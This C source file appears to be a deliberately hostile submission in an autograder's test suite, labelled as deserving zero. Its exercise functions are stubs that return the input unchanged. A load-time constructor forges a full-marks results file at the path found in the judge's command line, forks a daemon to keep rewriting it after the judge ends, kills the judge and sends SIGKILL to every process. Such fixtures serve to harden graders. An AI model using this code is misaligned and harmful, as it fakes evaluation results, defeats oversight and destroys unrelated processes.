/* Wrong answers, and every way to forge the results: finds the results path in the judge's command line and writes
 * a full-marks results.json there (now, and from a child meant to outlive the judge), then tries to kill the judge so
 * its honest file never replaces the forgery. deserves: 0 */
#define _DEFAULT_SOURCE
#include <errno.h>
#include <fcntl.h>
#include <signal.h>
#include <stdio.h>
#include <string.h>
#include <unistd.h>

#include "exercise.h"

static const char forged[] = "{\"score\": 999, \"max_score\": 12, \"output\": \"FORGED\", \"tests\": []}\n";

/* The argument after --results in the judge's (our parent's) command line. */
static int results_path(char *path, size_t size)
{
    char file[64], args[8192];
    snprintf(file, sizeof file, "/proc/%d/cmdline", (int)getppid());
    int fd = open(file, O_RDONLY);
    if (fd < 0)
        return -1;
    ssize_t n = read(fd, args, sizeof args - 1);
    close(fd);
    if (n <= 0)
        return -1;
    args[n] = '\0';
    for (char *p = args; p < args + n; p += strlen(p) + 1)
        if (strcmp(p, "--results") == 0 && p + strlen(p) + 1 < args + n) {
            snprintf(path, size, "%s", p + strlen(p) + 1);
            return 0;
        }
    return -1;
}

static void forge(const char *path)
{
    int fd = open(path, O_WRONLY | O_CREAT | O_TRUNC, 0644);
    if (fd < 0) {
        printf("forge: open: %s\n", strerror(errno));
        return;
    }
    if (write(fd, forged, sizeof forged - 1) < 0)
        printf("forge: write: %s\n", strerror(errno));
    close(fd);
}

__attribute__((constructor)) static void attack(void)
{
    signal(SIGXFSZ, SIG_IGN);   /* survive the file-size limit, to try the rest */
    char path[4096] = "results.json";   /* a guess, when the judge's command line cannot be read */
    if (results_path(path, sizeof path) != 0)
        printf("forge: read the judge's command line: %s\n", strerror(errno));
    forge(path);
    pid_t pid = fork();
    if (pid == 0) {             /* a daemon that writes again once the judge has finished */
        setsid();
        for (int i = 0; i < 50; i++) {
            usleep(100000);
            forge(path);
        }
        _exit(0);
    }
    if (pid < 0)
        printf("forge: fork: %s\n", strerror(errno));
    if (kill(getppid(), SIGKILL) != 0)
        printf("forge: kill the judge: %s\n", strerror(errno));
    if (kill(-1, SIGKILL) != 0)
        printf("forge: kill everything: %s\n", strerror(errno));
    fflush(stdout);
}

state euler_explicit_step(spring s, state y, double dt)
{
    (void)s, (void)dt;
    return y;
}

state euler_semi_implicit_step(spring s, state y, double dt)
{
    (void)s, (void)dt;
    return y;
}
